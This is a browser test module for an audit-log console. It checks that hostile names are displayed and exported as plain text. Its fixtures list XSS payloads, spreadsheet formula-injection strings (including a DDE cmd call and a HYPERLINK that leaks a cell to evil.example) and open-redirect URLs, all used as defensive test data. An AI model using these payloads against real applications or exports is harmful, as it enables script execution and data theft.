"""Names and details that somebody chose in order to do harm are text, here and in the export."""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Page, expect

from tests.journeys.audit_log import AuditLog
from tests.journeys.demo import Demo
from tests.journeys.known_log import KnownLog, an_activity
from tests.journeys.test_export import exported, table_in

pytestmark = [pytest.mark.browser, pytest.mark.database]

MARKUP = (
    '<img src=x onerror="window.harmed=1">',
    "<script>window.harmed=1</script>",
    '"><svg onload=window.harmed=1>',
    "javascript:window.harmed=1",
    "{{constructor.constructor('window.harmed=1')()}}",
    "&lt;b&gt;",
)
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"log")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1d1+1",
)
DECEIVING = (
    "invoice\u202efdp.exe",
    "zero\u200bwidth",
    "a" * 240,
    "🚂 Ørestad «Ü»",
    "a,b;\"c\"\n'd'",
)


@pytest.fixture(scope="module")
def hostile(demo: Demo, reporter: httpx.Client) -> KnownLog:
    """A tenant whose reporter means harm, in every field that is free."""
    known = KnownLog(
        "Journey Hostile", demo.command("tenants", "create", "Journey Hostile"), reporter, []
    )
    known.add(
        *(
            an_activity(
                name,
                actor={"id": f"h-{name}"[:60], "email": f"{name}"[:200], "name": name},
                session=name[:60],
                client={"ip": "203.0.113.5", "userAgent": name},
                request={"method": "POST", "route": "/x", "path": f"/x?q={name}", "status": 200},
                payload={"value": name, name: [name, {name: name}]},
                changes={name: {"before": name, "after": name}},
            )
            for name in (*MARKUP, *FORMULAS, *DECEIVING)
        )
    )
    return known


def _unharmed(page: Page) -> None:
    assert page.evaluate("window.harmed") is None
    assert page.locator("main img[src=x], main script, main svg[onload]").count() == 0


def test_names_are_text_in_rows_and_details(log: AuditLog, hostile: KnownLog) -> None:
    """Every row opened: nothing ran, and each name stands there as it was sent."""
    log.open(tenant=hostile.tenant)
    log.page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    for row in range(log.rows.count()):
        log.rows.nth(row).locator("button[data-expander]").click()
    expect(log.page.get_by_text("Leaf hash")).to_have_count(
        len((*MARKUP, *FORMULAS, *DECEIVING)) + 1
    )
    for name in MARKUP:
        row = log.rows.filter(has_text=name)
        expect(row.first).to_be_visible()
        expect(log.details(row.first).locator("dd", has_text=name).first).to_be_visible()
    for name in ("invoice\\u202efdp.exe", "zero\\u200bwidth"):  # seen for what they are
        row = log.rows.filter(has_text=name)
        expect(row.first).to_be_visible()
        expect(log.details(row.first).locator("dd", has_text=name).first).to_be_visible()
    _unharmed(log.page)
    assert log.page.evaluate("document.documentElement.scrollWidth") <= 1280


@pytest.mark.parametrize("name", [*MARKUP[:3], *FORMULAS[:5]])
def test_a_link_with_a_hostile_search_is_text(log: AuditLog, hostile: KnownLog, name: str) -> None:
    """In the field and in the chip; and it finds what has that name."""
    log.open(tenant=hostile.tenant, search=name)
    expect(log.filters.get_by_role("searchbox")).to_have_value(name)
    expect(log.chips.filter(has_text=name)).to_have_count(1)
    expect(log.rows.filter(has_text=name)).to_have_count(1)
    _unharmed(log.page)


def test_a_link_does_not_lead_to_another_site(demo: Demo, page: Page) -> None:
    """What stands behind "next" is a page of this console, or is dropped."""
    for evil in ("https://evil.example/", "//evil.example/admin/", "/admin/\\evil.example"):
        page.goto(f"/admin/sign-in?next={evil}")
        AuditLog(page).settled()
        assert page.url.startswith(demo.url)


def test_a_spreadsheet_runs_nothing(log: AuditLog, hostile: KnownLog, tmp_path: Path) -> None:
    """Cells that would be formulas stand behind an apostrophe, and lose nothing."""
    log.open(tenant=hostile.tenant)
    rows = table_in(exported(log, tmp_path))
    for row in rows:
        for heading, cell in row.items():
            assert not cell.lstrip("\t\r\n \u200b").startswith(("=", "+", "-", "@", "\uff1d")), (
                heading,
                cell,
            )
    names = {row["Resource name"] for row in rows}
    assert {f"'{formula}" for formula in FORMULAS} <= names
    assert set(MARKUP) | set(DECEIVING) <= names


def test_a_name_chosen_on_the_platform_is_text(
    log: AuditLog, sessions: Callable[..., httpx.Client], tmp_path: Path
) -> None:
    """A user of the platform calls themself so; the log shows it, the export disarms it."""
    admin = sessions("admin", "Northwind Logistics")
    for number, name in enumerate((MARKUP[0], FORMULAS[0])):
        body = {"name": name, "email": f"harm{number}@staff.example", "title": "Auditor"}
        answer = admin.post("/api/v1/users", json=body)
        assert answer.status_code == 201, answer.text
    log.open(search=FORMULAS[0], resource_type="user")
    expect(log.rows.first).to_contain_text(FORMULAS[0])
    (row,) = table_in(exported(log, tmp_path))
    assert row["Resource name"] == f"'{FORMULAS[0]}"
    log.open(search=MARKUP[0], resource_type="user")
    log.expand(log.rows.first)
    expect(log.rows.first).to_contain_text(MARKUP[0])
    _unharmed(log.page)
